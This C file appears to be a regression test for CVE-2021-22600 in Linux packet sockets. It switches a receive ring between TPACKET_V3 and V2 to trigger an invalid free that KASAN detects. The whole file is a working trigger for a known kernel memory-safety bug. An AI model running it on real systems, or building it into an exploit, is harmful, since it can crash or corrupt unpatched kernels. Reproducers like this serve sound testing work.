/* SPDX-License-Identifier: BSD-2-Clause */
/* tests/kernel-published/ring-owner.c - CVE-2021-22600
 * fix: net/packet: rx_owner_map depends on pg_vec
 * expected: KASAN: invalid-free in packet_set_ring
 * A ring of version 3 leaves a pointer where version 2 has a bitmap. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <sys/socket.h>

int main(void)
{
	struct tpacket_req3 ring = {
		.tp_block_size = 4096,
		.tp_block_nr = 1,
		.tp_frame_size = 2048,
		.tp_frame_nr = 2,
	};
	struct tpacket_req3 none = { 0 };
	struct tpacket_req none2 = { 0 };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)), version = TPACKET_V3;

	setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof(version));
	setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &ring, sizeof(ring));
	setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &none, sizeof(none));
	version = TPACKET_V2;
	setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof(version));
	return setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &none2, sizeof(none2)) < 0;
}
